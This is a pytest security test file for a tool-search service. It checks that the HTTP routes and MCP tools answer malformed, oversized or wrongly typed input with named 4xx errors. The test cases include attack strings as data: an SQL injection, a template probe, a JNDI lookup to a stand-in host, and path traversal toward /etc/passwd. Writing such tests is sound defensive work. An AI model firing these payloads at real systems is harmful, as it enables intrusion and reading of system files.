"""Bad input, as a careless or hostile client sends it: a clear 4xx naming the field, never a 500.

The search API's routes get each field wrong in every way a client can — the wrong type, too long, too
many, out of range, unknown — and bodies that are not JSON, not UTF-8, hold a lone surrogate or NUL
characters, or nest past the parser's limit. Each answer is a 4xx with the one error body, naming the
field when one is to blame. The MCP server's tools get the same treatment through the official SDK's
client: each bad call is a tool error the agent can read, and the session goes on serving.
"""

from __future__ import annotations

import json
from typing import Any

import anyio
import httpx
import pytest

from tests.security.conftest import Deployment
from tests.security.test_tenancy import _content, _mcp

pytestmark = [pytest.mark.integration, pytest.mark.security]

LONG = "x" * 40_000  # past the query limit (32,000 characters), far under the body cap

#: (route, body, the field the answer must name; None: the body as a whole)
BAD_BODIES: list[tuple[str, Any, str | None]] = [
    ("/v1/search", {"query": 5}, "query"),
    ("/v1/search", {"query": LONG}, "query"),
    ("/v1/search", {"query": ["a", "list"]}, "query"),
    ("/v1/search", {"query": "x", "top_k": 0}, "top_k"),
    ("/v1/search", {"query": "x", "top_k": "ten"}, "top_k"),
    ("/v1/search", {"query": "x", "top_k": 10**12}, "top_k"),
    ("/v1/search", {"query": "x", "level": "root"}, "level"),
    ("/v1/search", {"query": "x", "format": "xml"}, "format"),
    ("/v1/search", {"query": "x", "token_budget": -1}, "token_budget"),
    ("/v1/search", {"query": "x", "max_results": 0}, "max_results"),
    ("/v1/search", {"query": "x", "steps": ["a"] * 21}, "steps"),
    ("/v1/search", {"query": "x", "steps": [""]}, "steps.0"),
    ("/v1/search", {"query": "x", "filters": {"servers": [""]}}, "filters.servers.0"),
    ("/v1/search", {"query": "x", "filters": {"owner": "acme"}}, "filters.owner"),
    ("/v1/search", {"query": "x", "tenant": "globex"}, "tenant"),
    ("/v1/search", {"query": "x", "retriever": "sql"}, "retriever"),
    ("/v1/search", {"query": "x", "risky": "allow"}, "risky"),
    ("/v1/search", [1, 2, 3], None),
    # strict types: a number in a string, a boolean for a number, words for a boolean are refused, not coerced
    ("/v1/search", {"query": "x", "top_k": "10"}, "top_k"),
    ("/v1/search", {"query": "x", "top_k": True}, "top_k"),
    ("/v1/search", {"query": "x", "top_k": 10.0}, "top_k"),
    ("/v1/search", {"query": "x", "explain": "yes"}, "explain"),
    ("/v1/search", {"query": "x", "brief": 1}, "brief"),
    ("/v1/search", {"query": "x", "max_results": "5"}, "max_results"),
    ("/v1/search", {"query": "x", "filters": {"tags": [5]}}, "filters.tags.0"),
    ("/v1/toolset", {"query": "x", "token_budget": "100"}, "token_budget"),
    ("/v1/toolset", {"query": ""}, "query"),
    ("/v1/toolset", {}, "query"),
    ("/v1/feedback", {"request_id": "short", "calls": [{"tool_id": "x", "called": True}]}, "request_id"),
    ("/v1/feedback", {"request_id": "0" * 32, "calls": []}, "calls"),
    ("/v1/feedback", {"request_id": "0" * 32, "calls": [{"tool_id": "x", "called": "maybe"}]}, "calls.0.called"),
    ("/v1/feedback", {"request_id": "0" * 32, "calls": [{"tool_id": "x", "called": "true"}]}, "calls.0.called"),
    ("/v1/feedback", {"request_id": "0" * 32, "calls": [{"tool_id": "x", "called": True, "success": 1}]},
     "calls.0.success"),
]


@pytest.mark.parametrize(("route", "body", "field"), BAD_BODIES,
                         ids=[f"{r}:{json.dumps(b)[:40]}" for r, b, _ in BAD_BODIES])
def test_a_wrong_field_is_a_400_naming_it(deployment: Deployment, route: str, body: Any, field: str | None) -> None:
    answer = httpx.post(deployment.url("api") + route, json=body, headers=deployment.header("acme"), timeout=120)

    assert answer.status_code == 400, answer.text
    error = answer.json()
    assert error["code"] == "bad_request" and error["error"]
    assert error["field"] == field


CANDIDATE = {"doc_id": "srv/tool", "name": "tool"}
QUERY = {"text": "x", "tool_needs": [{"user_intent": "x"}]}
#: The workbench's and the ranker service's bodies of the wrong type: (front end, route, key, body, field)
LOOSE_TYPES: list[tuple[str, str, str, Any, str]] = [
    ("ui", "/api/search", "acme", {"query": "x", "top_k": "10"}, "top_k"),
    ("ui", "/api/search", "acme", {"query": "x", "top_k": True}, "top_k"),
    ("ui", "/api/search", "acme", {"query": "x", "top_k": 0}, "top_k"),
    ("ui", "/api/judgments", "acme-admin", {"query": "x", "tool_id": "t", "relevant": "yes"}, "relevant"),
    ("ui", "/api/compare", "acme", {"query_set": "s", "proposal": {"rerank_weight": "0.5"}}, "proposal.rerank_weight"),
    ("ranker", "/v1/rank", "acme", {"query": QUERY, "candidates": [], "top_k": "10"}, "top_k"),
    ("ranker", "/v1/rank", "acme", {"query": QUERY, "candidates": [], "rerank": "yes"}, "rerank"),
    ("ranker", "/v1/rank", "acme", {"query": QUERY, "candidates": [{**CANDIDATE, "first_stage_rank": "1"}]},
     "candidates.0.first_stage_rank"),
    ("ranker", "/v1/rank", "acme", {"query": QUERY, "candidates": [{**CANDIDATE, "first_stage_score": "1.5"}]},
     "candidates.0.first_stage_score"),
]


@pytest.mark.parametrize(("front_end", "route", "key", "body", "field"), LOOSE_TYPES,
                         ids=[f"{f}{r}:{json.dumps(b)[:50]}" for f, r, _, b, _ in LOOSE_TYPES])
def test_the_workbench_and_the_ranker_refuse_a_value_of_the_wrong_type_with_the_same_400_naming_it(
        deployment: Deployment, front_end: str, route: str, key: str, body: Any, field: str) -> None:
    """Every service types its bodies strictly ("10" is no number, true no count, "yes" no boolean) and
    answers a body outside its schema as the search API does: 400 ``bad_request`` naming the field."""
    answer = httpx.post(deployment.url(front_end) + route, json=body, headers=deployment.header(key), timeout=120)

    assert answer.status_code == 400, answer.text
    assert answer.json()["code"] == "bad_request" and answer.json()["field"] == field
    assert answer.json()["error"].startswith(f"{field}: "), answer.json()


def test_json_numbers_that_are_whole_still_fill_a_number_field(deployment: Deployment) -> None:
    """Strict is not pedantic: a JSON integer is a number (``rerank_weight: 1`` is 1.0), as JSON has one number type."""
    answer = httpx.post(deployment.url("ranker") + "/v1/rank", headers=deployment.header("acme"), timeout=120,
                        json={"query": QUERY, "candidates": [{**CANDIDATE, "first_stage_score": 2}]})

    assert answer.status_code == 200, answer.text
    assert answer.json()["results"][0]["doc_id"] == "srv/tool"


#: Raw bodies no JSON client would send: (what, bytes, words the answer must hold)
RAW_BODIES = [
    ("not json", b"{'query': 'x'}", "not valid JSON"),
    ("truncated", b'{"query": "x"', "not valid JSON"),
    ("not utf-8", b'{"query": "caf\xe9"}', "UTF-8"),
    ("lone surrogate", b'{"query": "a \\udc80 b"}', "Unicode"),
    ("nested past the limit", b'{"query": "x", "filters": ' + b"[" * 5000 + b"]" * 5000 + b"}", "nest"),
    ("empty", b"", "no body"),
]


@pytest.mark.parametrize(("what", "raw", "words"), RAW_BODIES, ids=[r[0] for r in RAW_BODIES])
def test_a_body_that_is_not_json_text_is_a_400_saying_why(deployment: Deployment, what: str, raw: bytes,
                                                          words: str) -> None:
    answer = httpx.post(deployment.url("api") + "/v1/search", content=raw, timeout=120,
                        headers={**deployment.header("acme"), "Content-Type": "application/json"})

    assert answer.status_code == 400, answer.text
    assert answer.json()["code"] == "bad_request"
    assert words.lower() in answer.json()["error"].lower(), answer.json()


def test_odd_text_in_a_query_is_searched_as_text_and_a_control_character_is_refused_by_name(
        deployment: Deployment) -> None:
    """Text is a request, however odd: it is searched, never run (no SQL, template or lookup is
    interpreted). A control character (NUL) is no part of a request: refused, saying which and where."""
    for query in ("\u202e liame na dnes", "🏴‍☠️" * 50, "' OR 1=1 --", "{{7*7}} ${jndi:ldap://x.example/a}"):
        answer = httpx.post(deployment.url("api") + "/v1/search", json={"query": query, "top_k": 3},
                            headers=deployment.header("acme"), timeout=120)
        assert answer.status_code == 200, (query, answer.text)
    nul = httpx.post(deployment.url("api") + "/v1/search", json={"query": "send \u0000 an email"},
                     headers=deployment.header("acme"), timeout=120)
    assert (nul.status_code, nul.json()["code"]) == (400, "bad_query")
    assert "\\x00" in nul.json()["error"] and "character 6" in nul.json()["error"]


@pytest.mark.parametrize("path", ["x" * 600, "..%2f..%2fetc%2fpasswd", "agent:..%2f..", "%00", "a/b/c/d/e/f",
                                  "%ff%fe", "../../../etc/passwd"])
def test_an_odd_tool_id_is_a_404_or_a_400_never_a_500(deployment: Deployment, path: str) -> None:
    answer = httpx.get(f"{deployment.url('api')}/v1/tools/{path}", headers=deployment.header("acme"), timeout=60)

    assert answer.status_code in (400, 404), answer.text
    assert answer.json()["code"] in ("bad_request", "not_found") and answer.json()["error"]


#: MCP tool calls an agent might get wrong: (tool, arguments)
BAD_CALLS: list[tuple[str, dict[str, Any]]] = [
    ("search_tools", {"query": 5}),
    ("search_tools", {"query": ""}),
    ("search_tools", {"query": LONG}),
    ("search_tools", {"query": "x", "top_k": -1}),
    ("search_tools", {"query": "x", "level": "root"}),
    ("search_tools", {"query": "x", "format": "xml"}),
    ("search_tools", {}),
    ("recommend_toolset", {"task": ""}),
    ("get_tool", {"tool_id": ""}),
    ("get_tool", {"tool_id": "no-such/tool"}),
    ("call_tool", {"tool_id": "no-such/tool", "arguments": {"a": 1}}),
    ("call_tool", {"tool_id": "x", "arguments": "not an object"}),
    ("no_such_tool", {"query": "x"}),
    ("search_tools", {"query": "pdf", "evil": 1}),
]

#: An argument no tool of the server takes, on each tool with otherwise valid arguments.
UNKNOWN_ARGUMENT: list[tuple[str, dict[str, Any]]] = [
    ("search_tools", {"query": "pdf", "evil": 1}),
    ("search_tools", {"query": "pdf", "tenant": "globex"}),
    ("recommend_toolset", {"task": "make a pdf report", "evil": 1}),
    ("get_tool", {"tool_id": "no-such/tool", "evil": 1}),
    ("call_tool", {"tool_id": "no-such/tool", "evil": 1}),
]


def test_every_mcp_tool_refuses_an_argument_it_does_not_take_naming_it(deployment: Deployment) -> None:
    """An argument a tool does not take is a mistake the agent should hear about (a misspelt
    ``top_k``, a ``tenant`` it hopes to steer), not silently dropped: a tool error naming it, for every
    tool, and every tool's input schema says so (``additionalProperties: false``)."""
    async def probe() -> tuple[list[tuple[str, str, bool, str]], dict[str, Any]]:
        outcomes = []
        async with _mcp(deployment.url("mcp"), deployment.header("acme")) as session:
            schemas = {tool.name: tool.input_schema for tool in (await session.list_tools()).tools}
            for tool, arguments in UNKNOWN_ARGUMENT:
                answer = await session.call_tool(tool, arguments)
                text = " ".join(str(getattr(c, "text", "")) for c in answer.content)
                unknown = next(name for name in arguments if name in ("evil", "tenant"))
                outcomes.append((tool, unknown, bool(answer.is_error), text))
        return outcomes, schemas

    outcomes, schemas = anyio.run(probe)

    for tool, unknown, is_error, text in outcomes:
        assert is_error, (tool, text)
        assert f"unknown argument {unknown!r}" in text, (tool, text)
    assert set(schemas) == {"search_tools", "recommend_toolset", "get_tool", "call_tool"}
    assert all(schema.get("additionalProperties") is False for schema in schemas.values()), schemas


def test_every_bad_mcp_call_is_a_tool_error_and_the_session_goes_on(deployment: Deployment) -> None:
    async def probe() -> tuple[list[tuple[str, bool, str]], Any]:
        outcomes = []
        async with _mcp(deployment.url("mcp"), deployment.header("acme")) as session:
            for tool, arguments in BAD_CALLS:
                answer = await session.call_tool(tool, arguments)
                text = " ".join(str(getattr(c, "text", "")) for c in answer.content)
                outcomes.append((tool, bool(answer.is_error), text))
            after = await session.call_tool("search_tools", {"query": "send an email", "top_k": 3})
        return outcomes, after

    outcomes, after = anyio.run(probe)

    for tool, is_error, text in outcomes:
        assert is_error, (tool, text)
        assert text and "Traceback" not in text, (tool, text)
    assert not after.is_error and _content(after)["tools"]
